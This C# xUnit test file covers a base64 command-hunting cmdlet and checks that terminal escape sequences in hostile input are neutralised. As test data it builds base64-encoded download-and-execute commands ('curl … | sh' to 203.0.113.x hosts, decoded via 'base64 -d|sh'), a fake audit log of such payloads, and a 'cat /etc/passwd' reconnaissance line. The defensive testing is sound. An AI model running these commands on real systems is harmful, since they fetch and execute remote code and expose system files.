using System;
using System.Linq;
using B64Hunt.Model;
using Xunit;
using static B64Hunt.Tests.Hostile.HostileLines;

namespace B64Hunt.Tests.Hostile
{
    /// <summary>Issue #12 item 6 through Get-B64Command: attacker text is neutralised in the events and messages, and kept exactly in the Raw properties.</summary>
    public class GetB64CommandNeutralizeTests
    {
        [Fact]
        public void EventFieldsAreNeutralisedAndTheRawPropertiesKeepTheExactText()
        {
            string host = "web-01" + Osc0;
            string account = "root" + Csi2J;
            string commandLine = "bash -c \"echo " + B64("curl -s http://203.0.113.7/x | sh" + Osc52) + "|base64 -d|sh\" " + Osc52;
            using var ps = GetB64CommandShell();
            ps.AddCommand("Get-B64Command").AddParameter("CommandLine", commandLine).AddParameter("Computer", host).AddParameter("Account", account);
            // The OSC 52 clipboard text is base64 itself, so it decodes to an event of its own too.
            var events = ps.Invoke().Select(o => (CommandEvent)o.BaseObject).ToList();
            Assert.NotEmpty(events);
            Assert.All(events, e => Assert.True(IsDisplaySafe(e.CommandLine) && IsDisplaySafe(e.DecodedCommand) && IsDisplaySafe(e.Computer)));
            var ev = events.First(e => e.DecodedCommand.Contains("203.0.113.7"));
            Assert.True(IsDisplaySafe(ev.Computer), ev.Computer);
            Assert.True(IsDisplaySafe(ev.Account), ev.Account);
            Assert.True(IsDisplaySafe(ev.CommandLine), ev.CommandLine);
            Assert.True(IsDisplaySafe(ev.DecodedCommand), ev.DecodedCommand);
            Assert.Equal(host, ev.ComputerRaw);
            Assert.Equal(account, ev.AccountRaw);
            Assert.Equal(commandLine, ev.CommandLineRaw);
            Assert.Contains("\\x1b]0;owned\\x07", ev.Computer);
        }

        [Fact]
        public void MessagesQuotingDataAreNeutralised()
        {
            using var ps = GetB64CommandShell();
            ps.AddCommand("Get-B64Command").AddParameter("CommandLine", "echo " + B64("id; uname -a; cat /etc/passwd"))
                .AddParameter("TimeGenerated", "yesterday" + Osc52).AddParameter("Verbose", true);
            ps.Invoke();
            var error = Assert.Single(ps.Streams.Error);
            Assert.Equal("InvalidTimeGenerated", error.FullyQualifiedErrorId.Split(',')[0]);
            Assert.True(IsDisplaySafe(error.ErrorDetails?.Message), error.ErrorDetails?.Message);
            Assert.Contains("\\x1b]52", error.ErrorDetails!.Message);
            Assert.All(ps.Streams.Verbose, v => Assert.True(IsDisplaySafe(v.Message)));
        }

        [Fact]
        public void EscapeSequencesInEveryFieldOfAnAuomsFileNeverReachAnEventRaw()
        {
            var rng = new Random(20261202);
            string[] hostile = { Osc0, Osc52, Csi2J, "\r", "\u202E", "\u200B", "\uDB40\uDC41", "\u0085", "\u0000", "\u2028" };
            using var dir = new Sources.SourceTestSupport.TempDirectory();
            var lines = Enumerable.Range(0, 40).Select(i =>
            {
                string h = "web" + rng.Next(9) + hostile[rng.Next(hostile.Length)];
                string u = "u" + hostile[rng.Next(hostile.Length)];
                string payload = B64("curl -s http://203.0.113." + i + "/a" + hostile[rng.Next(hostile.Length)] + " | sh");
                return $"Oct  1 00:00:{i % 60:00} {h.Replace(" ", "")} auoms[1]: type=AUOMS_EXECVE audit(1790812800.000:{i}): user={u} uid=0 comm=\"bash\" cmdline=\"bash -c echo {payload}|base64 -d|sh {hostile[rng.Next(hostile.Length)]}\" redactors= containerid=";
            });
            System.IO.File.WriteAllText(dir.File("hostile.log"), string.Join("\n", lines) + "\n");
            using var ps = GetB64CommandShell();
            ps.AddCommand("Get-B64Command").AddParameter("LiteralPath", dir.File("hostile.log"));
            var events = ps.Invoke().Select(o => (CommandEvent)o.BaseObject).ToList();
            Assert.NotEmpty(events);
            foreach (var ev in events)
            {
                foreach (string? text in new[] { ev.Computer, ev.Account, ev.CommandLine, ev.DecodedCommand, ev.Source, ev.EncodedText })
                {
                    Assert.True(IsDisplaySafe(text), text);
                }
            }
            Assert.All(ps.Streams.Error, e => Assert.True(IsDisplaySafe(e.ErrorDetails?.Message ?? e.Exception.Message)));
        }
    }
}
